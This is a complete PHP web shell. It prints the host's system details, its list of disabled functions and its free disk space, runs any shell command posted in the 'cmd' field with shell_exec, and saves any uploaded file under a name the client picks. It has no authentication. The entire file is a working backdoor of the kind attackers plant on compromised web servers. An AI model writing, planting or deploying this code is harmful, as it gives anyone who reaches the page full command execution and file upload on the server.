<?php
echo php_uname();
echo ini_get("disable_functions");
if (isset($_POST["cmd"])) { echo shell_exec($_POST["cmd"]); }
if (isset($_FILES["f"])) { move_uploaded_file($_FILES["f"]["tmp_name"], getcwd() . "/" . $_FILES["f"]["name"]); }
echo disk_free_space("/");
?>
